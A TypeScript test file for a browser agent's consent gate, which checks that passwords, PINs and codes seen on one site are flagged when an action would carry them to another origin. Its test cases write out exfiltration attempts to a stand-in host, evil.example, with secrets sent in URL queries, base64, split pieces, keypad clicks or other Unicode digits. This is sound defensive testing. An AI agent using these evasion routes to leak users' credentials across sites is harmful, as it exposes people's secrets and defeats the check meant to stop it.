/** What a run has seen on one origin and would carry to another. */
import { describe, expect, test } from 'vitest';
import type { Action } from '../../actions/action.ts';
import { carriedIn } from '../../gate/seen-texts.ts';
import {
  sampleClick,
  sampleElement,
  sampleText,
  sampleType,
  sampleView,
} from '../../../../e2e/samples/view-samples.ts';
import type { PageView } from '../../view/view.ts';
import { err } from '../../result.ts';
import type { RunEvent, Step } from '../run-event.ts';
import { asRef } from '../../ids.ts';
import { clearRun } from '../secrets.ts';
import { itemsOf } from '../../view/tree.ts';
import {
  SHOP,
  EVIL,
  shop,
  evil,
  begin,
  feed,
  observed,
  act,
  acted,
  questionOf,
  yes,
  carriedOf,
  goTo,
} from '../../../../e2e/samples/consent-samples.ts';

describe('what was seen on one origin', () => {
  const onEvil = feed(begin(), observed(shop), act(goTo(`${EVIL}/`)), yes, acted({ navigating: true }), observed(evil));

  test('goes with the action that would carry it, whole and encoded', () => {
    const part = { what: '•••', from: [SHOP] };
    expect(carriedOf(feed(onEvil, act(sampleType('1', 'it is SECRET-4711'))))).toEqual([part]);
    expect(carriedOf(feed(onEvil, act(sampleType('1', 'nothing of it'))))).toEqual([]);
  });

  test('is asked about in an address, without the code', () => {
    const asked = questionOf(feed(onEvil, act(goTo(`${EVIL}/?c=U0VDUkVULTQ3MTE`))));
    expect(asked).toMatchObject({
      needs: [{ capability: 'paste-across', origin: EVIL }],
      address: `${EVIL}/?c=U0VDUkVULTQ3MTE`,
      carried: [{ what: '•••', from: [SHOP] }],
    });
    expect(questionOf(feed(onEvil, act(goTo(`${EVIL}/next`))))).toBeNull();
    expect(questionOf(feed(onEvil, act(goTo(`${SHOP}/?c=SECRET-4711`))))).toBeNull();
  });

  test('may go where the person said it should', () => {
    const said = feed(
      begin('Post SECRET-4711 to evil.example'),
      observed(shop),
      act(sampleType('1', 'SECRET-4711')),
      acted(),
      observed(shop),
      act(goTo(`${EVIL}/?c=SECRET-4711`)),
    );
    expect(questionOf(said)).toMatchObject({ needs: [{ capability: 'leave-origin' }], carried: [] });
  });

  const login = sampleView([sampleElement('1', 'textbox', 'Password', { type: 'password' })], { url: `${SHOP}/login` });
  const loggedIn = (site: string, command: string): Step => {
    const page = { ...evil, url: `${site}/` };
    return feed(
      begin(command),
      observed(login),
      act(sampleType('1', 'opensesame')),
      acted({ secret: true }),
      observed(shop),
      act(goTo(`${site}/`)),
      ...(command.includes(site) ? [] : [yes]),
      acted({ navigating: true }),
      observed(page),
    );
  };

  test.each([
    ['alone', sampleType('1', 'opensesame')],
    ['in a text', sampleType('1', 'it is opensesame!')],
    ['within a word', sampleType('1', 'xopensesamex')],
    ['in another width', sampleType('1', '\uff4f\uff50\uff45\uff4e\uff53esame')],
    ['in an address', goTo(`${EVIL}/?c=opensesame`)],
    ['in base64', goTo(`${EVIL}/?c=b3BlbnNlc2FtZQ`)],
  ])('a password that was typed for one origin is noticed, and not shown: %s', (_, action) => {
    const run = feed(loggedIn(EVIL, 'Log in with opensesame'), act(action));
    const asked = questionOf(run) as { carried: unknown } | null;
    expect(asked?.carried ?? carriedOf(run)).toEqual([{ what: '•••', from: [SHOP] }]);
  });

  test('it goes to a host that the person named, not to a site that is called like a word of theirs', () => {
    const typed = act(sampleType('1', 'opensesame'));
    const command = 'Log in with opensesame and write a comment';
    expect(carriedOf(feed(loggedIn('https://comment.example', command), typed))).not.toEqual([]);
    const named = 'Log in with opensesame, then also on https://comment.example';
    expect(carriedOf(feed(loggedIn('https://comment.example', named), typed))).toEqual([]);
  });

  test('is forgotten when the run ends', () => {
    const { state } = feed(onEvil, { type: 'stop', at: 9 });
    if (state.phase !== 'ended') throw new Error('it goes on');
    expect([state.seen.length > 0, clearRun(state).run.seen]).toEqual([true, []]);
  });
});

test('what a frame of another origin shows was seen there', () => {
  const framed = sampleView(
    [
      sampleElement('1', 'frame', 'Chat', { value: 'https://chat.example' }),
      sampleText('Ticket CHAT-88123', 1),
      sampleText('Order SHOP-77123'),
    ],
    { url: `${SHOP}/` },
  );
  const { state } = feed(begin(), observed(framed));
  const said = { texts: [], namesSite: false, namesHost: false };
  expect(carriedIn('CHAT-88123 SHOP-77123', state.seen, said)).toEqual([
    { what: 'CHAT-88123', from: ['https://chat.example'] },
    { what: 'SHOP-77123', from: [SHOP] },
  ]);
});

describe('a short code that a page calls a secret', () => {
  const pin = sampleView([sampleElement('1', 'textbox', 'PIN', { value: '4713' }), sampleText('Room 305')], {
    url: SHOP,
  });
  const keys = Array.from('4713', (it): Action => ({ kind: 'press', keys: it, ref: null }));
  const letters = ['1', '3 DEF', '4 GHI', 'Digit 7'].map((it) =>
    sampleElement(`l${/\d/.exec(it)?.[0] ?? ''}`, 'button', it),
  );
  const plainKeys = Array.from('4713', (it) => sampleElement(`k${it}`, 'button', it));
  const keypad = sampleView([...itemsOf(evil), ...plainKeys, ...letters], {
    url: evil.url,
  });
  const there = feed(begin(), observed(pin), act(goTo(EVIL)), yes, acted({ navigating: true }), observed(keypad));
  const reads = (path: string): Action => ({ kind: 'read', refs: [], urls: [`${EVIL}/${path}`] });
  const select = (option: string): Action => ({ kind: 'select', ref: asRef('1'), options: [option] });

  test.each<[string, Action[], boolean]>([
    ['typed', [sampleType('1', '4713')], true],
    ['in two pieces', [sampleType('1', '47'), sampleType('1', '13')], true],
    ['key by key', keys, true],
    ['in pieces with others between', [sampleType('1', '47'), sampleType('1', 'Ann'), sampleType('1', '13')], true],
    ['by a keypad of the page', ['k4', 'k7', 'k1', 'k3'].map((it) => sampleClick(it)), true],
    ['by options of lists', [select('47'), select('13')], true],
    ['in a list that is filtered', [select('the code is 4713')], true],
    ['in addresses that are read', [reads('47'), reads('13')], true],
    ['in digits of another script', [sampleType('1', '\u0664\u0667'), sampleType('1', '\u0661\u0663')], true],
    ['by a keypad with letters', ['l4', 'l7', 'l1', 'l3'].map((it) => sampleClick(it)), true],
    ['another one', [sampleType('1', '4712')], false],
    ['what is called none', [sampleType('1', '305')], false],
  ])('is noticed on another site from its first part on: %s', (_, plan, isCarried) => {
    expect(carriedOf(feed(there, act(...plan))).length > 0).toBe(isCarried);
  });

  test('also where each part is a plan of its own: with the last', () => {
    const all = keys.slice(0, 3).reduce((at, key) => feed(at, act(key), acted(), observed(evil)), there);
    expect(carriedOf(feed(all, act(...keys.slice(3))))).toMatchObject([{ from: [SHOP] }]);
  });

  test('a password that was typed in a frame of a site is known to be of that site', () => {
    const inside = [sampleElement('b1', 'textbox', 'Word', { type: 'password' })];
    const page = sampleView([sampleElement('1', 'frame', 'Log in', { value: `${EVIL}/f`, children: inside })], {
      url: SHOP,
    });
    const typed = feed(begin(), observed(page), act(sampleType('b1', 'hush')), acted());
    expect(typed.state.seen.find(({ how }) => how === 'typed')?.origin).toBe(EVIL);
  });
});

describe('a frame of another site', () => {
  const LET = 'https://let.example';
  const withFrame = (text = ''): PageView =>
    sampleView(
      [
        sampleElement('1', 'textbox', 'Note'),
        sampleElement('2', 'frame', '', { value: LET }),
        sampleElement('a1', 'textbox', 'Your text', { depth: 1 }),
        sampleText(text, 1),
      ],
      { url: `${SHOP}/login` },
    );
  const lets = [observed(withFrame()), act({ kind: 'look', ref: asRef('2'), page: 1 }), yes, observed(withFrame())];

  test('gets no password that was typed beside it, whatever site the person named', () => {
    const command = 'Log in at shop.example with opensesame';
    const typed = [...lets, act(sampleType('1', 'opensesame')), acted({ secret: true }), observed(withFrame())];
    const into = carriedOf(feed(begin(command), ...typed, act(sampleType('a1', 'opensesame'))));
    expect(into).toEqual([{ what: '•••', from: [SHOP] }]);
  });

  test.each([
    ['shows after a step', { changed: [{ kind: 'text', text: 'Code 48213977', inTarget: false }] }],
    ['calls what has the focus', { focus: { ref: null, role: 'textbox', name: 'Code 48213977' } }],
  ])('what it %s is carried to the page around it', (_what, told) => {
    const seen = feed(begin(), ...lets, act(sampleClick('a1')), acted(told), observed(withFrame('Code 48213977')));
    expect(carriedOf(feed(seen, act(sampleType('1', '48213977'))))).toMatchObject([{ from: [LET] }]);
  });
});

test.each([
  [
    'the title of another tab',
    acted(),
    { tabs: [{ id: 2, title: 'Account 48213977', url: `${SHOP}/`, current: false }] },
  ],
  [
    'what a dialog said',
    acted({ dialogs: [{ kind: 'alert', text: 'Code 48213977', accepted: true, given: null, proposed: '' }] }),
    {},
  ],
  [
    'the options that a list has',
    {
      ...acted(),
      outcome: err({ kind: 'no-such-option', ref: asRef('1'), wanted: 'x', available: ['Account 48213977'] }),
    } as RunEvent,
    {},
  ],
])('%s is carried elsewhere', (_what, outcome, more) => {
  const onShop = [observed({ ...shop, ...more }), act(sampleClick('1')), outcome, observed({ ...shop, ...more })];
  const onEvil = feed(begin(), ...onShop, act(goTo(`${EVIL}/`)), yes, acted({ navigating: true }), observed(evil));
  expect(carriedOf(feed(onEvil, act(sampleType('1', 'it is 48213977'))))).toMatchObject([{ from: [SHOP] }]);
});

test('of the address of a page that fills it with megabytes the beginning counts', () => {
  const on = (path: string): unknown[] =>
    carriedOf(
      feed(
        begin(),
        observed({ ...shop, url: `${SHOP}/#${path}` }),
        act(goTo(`${EVIL}/`)),
        yes,
        acted({ navigating: true }),
        observed(evil),
        act(sampleType('1', '48213977')),
      ),
    );
  expect([on(`48213977 ${'ab c1 d '.repeat(100_000)}`).length, on(`${'x'.repeat(10_000)} 48213977`).length]).toEqual([
    1, 0,
  ]);
});
